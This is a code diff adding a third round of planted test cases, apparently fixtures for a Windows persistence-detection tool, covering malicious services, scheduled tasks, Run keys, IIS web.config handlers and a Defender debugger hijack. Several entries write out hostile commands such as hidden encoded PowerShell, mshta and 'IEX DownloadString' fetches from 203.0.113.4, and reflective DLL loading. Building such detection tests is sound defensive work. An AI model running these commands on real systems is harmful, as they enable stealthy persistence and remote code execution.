@@ -106,5 +106,25 @@ internal static class PlantedCases
             one.Event("Security", "Microsoft-Windows-Security-Auditing", 4732, ("MemberName", "-"), ("MemberSid", "S-1-5-21-1-2-3-1009"), ("TargetUserName", "Administrators"), ("TargetDomainName", "Builtin"), ("TargetSid", "S-1-5-32-544"), ("SubjectUserName", "EX01$"), ("SubjectUserSid", "S-1-5-18"));
         }),
         ("fwrule3.exe", one => one.System(@"Services\SharedAccess\Parameters\FirewallPolicy\FirewallRules", "{1}", @"v2.30|Action=Allow|Active=TRUE|Dir=In|Protocol=6|App=C:\ProgramData\fwrule3.exe|Name=Core Networking|")),
+        // Third round.
+        ("svc4697", one => one.Event("Security", "Microsoft-Windows-Security-Auditing", 4697, ("ServiceName", "svc4697"), ("ServiceFileName", @"%COMSPEC% /b /c start /b /min powershell -nop -w hidden -encodedcommand SQBFAFgA"), ("ServiceType", "0x10"))),
+        ("upd4702", one => one.Event("Security", "Microsoft-Windows-Security-Auditing", 4702, ("TaskName", @"\upd4702"), ("TaskContentNew", "<Task><Actions><Exec><Command>mshta.exe</Command><Arguments>http://203.0.113.4/upd4702.hta</Arguments></Exec></Actions></Task>"))),
+        ("spaced9", one => one.Service("spaced9", @"""C:\WINDOWS\TEMP\x y\spaced9.exe"" -k")),
+        ("allusers9.exe", one => one.Service("AllUsersSvc", @"%ALLUSERSPROFILE%\allusers9.exe")),
+        ("public9.exe", one => one.Service("PublicSvc", @"%PUBLIC%\public9.exe")),
+        ("slashes9.exe", one => one.Service("SlashSvc", "C:/Users/Public/slashes9.exe")),
+        ("explor9.vbs", one => one.Software($@"{Windows}\Run", "explor9", @"C:\Windows\explorer.exe C:\Users\Public\explor9.vbs")),
+        ("clr9.dll", one => one.Software($@"{Windows}\Run", "clr9", @"regsvr32 /s C:\Windows\System32\spool\drivers\color\clr9.dll")),
+        ("mkeys9.exe", one => one.Service("mkeys9", @"C:\ProgramData\Microsoft\Crypto\RSA\MachineKeys\mkeys9.exe")),
+        ("asm9.dll", one => one.Task(@"\asm9", "powershell.exe", @"-c ""[Reflection.Assembly]::LoadFile('C:\Windows\Tasks\asm9.dll').GetType('A').GetMethod('B').Invoke($null,$null)""")),
+        ("allu9.exe", one => one.Task(@"\allu9", "cmd.exe", @"/c start """" /min ""C:\Users\All Users\allu9.exe""")),
+        ("bin9.exe", one => one.Task(@"\bin9", @"C:\$Recycle.Bin\S-1-5-18\bin9.exe")),
+        ("icoasp9", one => one.File(@"C:\inetpub\wwwroot\aspnet_client\system_web\web.config", @"<?xml version=""1.0""?><configuration><system.webServer><handlers><add name=""icoasp9"" path=""*.ico"" verb=""*"" modules=""IsapiModule"" scriptProcessor=""C:\Windows\System32\inetsrv\asp.dll"" /></handlers></system.webServer></configuration>")),
+        ("pngash9", one => one.File(@"C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\ecp\web.config", @"<?xml version=""1.0""?><configuration><system.web><httpHandlers><add path=""pngash9.png"" verb=""*"" type=""System.Web.UI.SimpleHandlerFactory"" /></httpHandlers></system.web></configuration>")),
+        ("shr9", one => one.Directory("/shr9", @"\\203.0.113.8\shr9")),
+        ("tsc9.exe", one => one.Task(@"\tsc9", @"\\tsclient\c\tsc9.exe")),
+        ("MsMpEng.exe", one => one.Software($@"{Nt}\Image File Execution Options\MsMpEng.exe", "Debugger", "systray.exe")),
+        ("split9", one => one.Service("split9", @"C:\Windows\System32\cmd.exe /c ""set a=power&&set b=shell&&call %a%%b% -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.4/split9')""")),
+        ("hiddenRun9", one => one.User(@"Software\Microsoft\Windows\CurrentVersion\Run", "hiddenRun9", @"conhost --headless cmd /c %APPDATA%\hiddenRun9.bat")),
     ];
 }
